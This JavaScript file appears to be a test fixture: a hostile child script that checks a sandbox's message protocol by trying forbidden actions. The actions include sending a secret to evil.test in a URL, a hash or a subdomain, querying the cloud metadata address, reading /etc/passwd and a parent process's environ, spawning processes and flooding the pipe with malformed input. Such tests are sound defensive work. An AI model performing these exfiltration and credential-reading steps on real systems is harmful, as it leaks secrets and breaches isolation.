/**
 * The process of a script, taken over: it knows the frames and does what the source of its order names. What it found out
 * is the value of its outcome.
 */
import { spawnSync } from 'node:child_process';
import { readFileSync, readSync, writeFileSync, writeSync } from 'node:fs';
import { connect } from 'node:net';

const write = (bytes) => {
  const buffer = Buffer.from(bytes);
  for (let done = 0; done < buffer.length;) done += writeSync(4, buffer, done);
};
let rest = '';
function readLine() {
  const chunk = Buffer.alloc(65536);
  while (!rest.includes('\n')) {
    const got = readSync(3, chunk, 0, chunk.length, null);
    if (got === 0) process.exit(0);
    rest += chunk.toString('utf8', 0, got);
  }
  const line = rest.slice(0, rest.indexOf('\n'));
  rest = rest.slice(line.length + 1);
  return line;
}
const ask = (question) => {
  write(`Q${JSON.stringify(question)}\n`);
  return JSON.parse(readLine());
};
const outcome = (value, more = {}) =>
  `O${JSON.stringify({ value, error: null, logs: [], used: { steps: 1, memory: 1 }, ...more })}\n`;
const http = (over) => ({
  op: 'http',
  method: 'GET',
  url: ['https://api.test/'],
  headers: [],
  body: [],
  ...over,
});
const get = '{"op":"get","name":"MINE"}';

const attempt = (act) => {
  try {
    const found = act();
    return found === undefined ? 'ALLOWED' : `ALLOWED ${String(found).slice(0, 100)}`;
  } catch (error) {
    return `refused ${error.code ?? error.message}`;
  }
};
const dial = (port) =>
  new Promise((resolve) => {
    try {
      connect(port, '127.0.0.1')
        .on('connect', () => resolve('ALLOWED connected'))
        .on('error', (error) => resolve(`refused ${error.code}`));
    } catch (error) {
      resolve(`refused ${error.code}`);
    }
  });

const PIPE = {
  // The protocol as it is, for what is not granted.
  grant: () =>
    write(
      outcome({
        list: ask({ op: 'list' }),
        foreignName: ask({ op: 'get', name: 'THEIRS' }),
        foreignInOwnHost: ask(http({ headers: [['x', [['ref', 'THEIRS']]]] })),
        ownToForeignHost: ask(http({ url: ['https://evil.test/?k=', ['ref', 'MINE']] })),
        ownInHashToForeignHost: ask(http({ url: ['https://evil.test/?k=', ['sha256', [['ref', 'MINE']]]] })),
        ownOverPlainHttp: ask(http({ url: ['http://api.test/?k=', ['ref', 'MINE']] })),
        ownAsHost: ask(http({ url: ['https://', ['ref', 'MINE'], '.evil.test/'] })),
        ungrantedMethod: ask(http({ method: 'DELETE' })),
        madeUpReference: ask(http({ body: [['ref', 'MINE@7']], method: 'POST' })),
        inner: ask(http({ url: ['http://169.254.169.254/latest/meta-data'] })),
        own: ask(http({ headers: [['authorization', ['Bearer ', ['ref', 'MINE']]]] })),
      }),
    ),
  garbage: () => write('GET / HTTP/1.1\n'),
  binary: () => write(Buffer.from([0xff, 0xfe, 0x00, 0x0a])),
  readyAgain: () => write('R\n'),
  revealOperation: () => write('Q{"op":"reveal","name":"MINE"}\n'),
  twoQuestions: () => write(`Q${get}\nQ${get}\n`),
  questionWhileAsking: () => {
    write(`Q${JSON.stringify(http({}))}\n`);
    write(`Q${get}\n`);
  },
  outcomeWhileAsking: () => {
    write(`Q${JSON.stringify(http({}))}\n`);
    write(outcome('x'));
  },
  twoOutcomes: () => write(outcome(1) + outcome(2)),
  endlessLine: () => {
    for (;;) write(Buffer.alloc(1 << 20, 'Q'));
  },
  deepQuestion: () => write(`Q${'['.repeat(4_000_000)}\n`),
  deepOutcome: () =>
    write(
      `O{"value":${'['.repeat(300_000)}${']'.repeat(300_000)},"error":null,"logs":[],"used":{"steps":1,"memory":1}}\n`,
    ),
  deepInText: () => write(outcome('['.repeat(1_000))),
  longOutcome: () => write(outcome('x'.repeat(1_100_000))),
  longMessage: () => write(outcome(null, { error: { code: 'fail', message: 'x'.repeat(5_000), line: 1 } })),
  parentsCode: () => write(outcome(null, { error: { code: 'cancelled', message: 'x', line: null } })),
  strangeCode: () => write(outcome(null, { error: { code: 'a\u001b[2J', message: 'x', line: null } })),
  valueAndError: () => write(outcome(1, { error: { code: 'fail', message: 'x', line: null } })),
  memberMore: () => write(outcome(1, { fence: { fenced: true } })),
  manyLogs: () => write(outcome(1, { logs: Array.from({ length: 70_000 }, () => '') })),
  logsNoText: () => write(outcome(1, { logs: [{}] })),
  negativeNumbers: () => write(outcome(1, { used: { steps: -1, memory: 1 } })),
  hugeNumbers: () => write(outcome(1, { used: { steps: 1e300, memory: 1 } })),
  silence: () => readLine(),
  end: () => process.exit(0),
  crash: () => process.abort(),
  outputFlood: () => {
    for (let i = 0; i < 20_000; i += 1) {
      process.stdout.write('x'.repeat(1_000));
      process.stderr.write(`${'y'.repeat(1_000)}\n`);
    }
    write(outcome('after the flood'));
  },
  machine: async () => {
    const { port, parent, secret, target } = order.args[0];
    const load = (name) => process.getBuiltinModule(name);
    write(
      outcome({
        read: attempt(() => readFileSync(secret, 'utf8')),
        passwd: attempt(() => readFileSync('/etc/passwd').length),
        environ: attempt(() => readFileSync(`/proc/${parent}/environ`).length),
        write: attempt(() => writeFileSync(target, 'x')),
        database: attempt(() => {
          const { DatabaseSync } = load('node:sqlite');
          new DatabaseSync(`${target}.db`).exec('create table t(a)');
        }),
        spawn: attempt(() => {
          const { error, status } = spawnSync('/bin/true');
          if (error) throw error;
          return status;
        }),
        signal: attempt(() => process.kill(parent, 0)),
        socket: await dial(port),
        names: Object.keys(process.env).join(),
      }),
    );
  },
};

write('R\n');
const order = JSON.parse(readLine());
await PIPE[order.source]();
